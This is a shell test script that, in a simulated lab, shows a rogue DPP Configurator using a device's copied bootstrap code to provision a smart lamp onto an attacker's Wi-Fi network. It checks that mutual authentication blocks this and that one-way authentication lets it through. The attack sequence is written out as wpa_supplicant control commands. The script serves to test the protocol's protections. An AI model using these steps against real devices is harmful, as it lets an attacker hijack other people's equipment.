# Somebody photographed the code of a device and configures it first. One-way, nothing in the protocol stops that: the device
# takes the first who knows its key. A device that knows its owner's Controller and insists on mutual authentication is safe.
reach_controller
controller network dpp-lab dpp
enrol_access_point
radio_to 2 evil
start_ws evil evil wlan2 nl80211 < /dev/null
evil=$(ws evil DPP_CONFIGURATOR_ADD)
station lamp 1
controller expect lamp "${URI[lamp]}" sta dpp-lab
# attack NAME: the evil Configurator, with a radio of its own, asks a device that listens on channel 6.
attack() {
  local peer
  peer=$(ws evil "DPP_QR_CODE ${URI[$1]}")
  ws evil "DPP_AUTH_INIT peer=$peer configurator=$evil conf=sta-psk ssid=$(hex evil-lab) pass=$(hex evil-secret)" | grep -q OK || fail 'the attack did not begin'
}
ws lamp "DPP_LISTEN 2437 qr=mutual" > /dev/null
attack lamp
need lamp.log DPP-SCAN-PEER-QR-CODE 15
step "lamp insists on mutual authentication: it waits for the code of whoever asks"
absent lamp.log DPP-CONF-RECEIVED 8 1 'a device that insists on mutual authentication was taken'
step 'the evil twin does not get it'
ws lamp DPP_STOP_LISTEN > /dev/null
ws evil DPP_STOP_LISTEN > /dev/null
begin_mutual lamp
configured lamp
[ "$(event lamp.log DPP-CONFOBJ-SSID)" = dpp-lab ] || fail 'lamp is not configured for the network of its owner'
step "its owner's Controller, whose code it scanned, gets it ($(event lamp.log DPP-AUTH-DIRECTION))"
connected lamp
# The same device without that demand.
fresh_station lamp
controller expect lamp "${URI[lamp]}" sta dpp-lab
ws lamp "DPP_LISTEN 2437" > /dev/null
attack lamp
need lamp.log DPP-CONF-RECEIVED 20
[ "$(event lamp.log DPP-CONFOBJ-SSID)" = evil-lab ] || fail 'the attack was to show that one-way authentication lets it pass'
step 'one-way, without that demand, it belongs to whoever comes first: DPP itself does not prevent this'
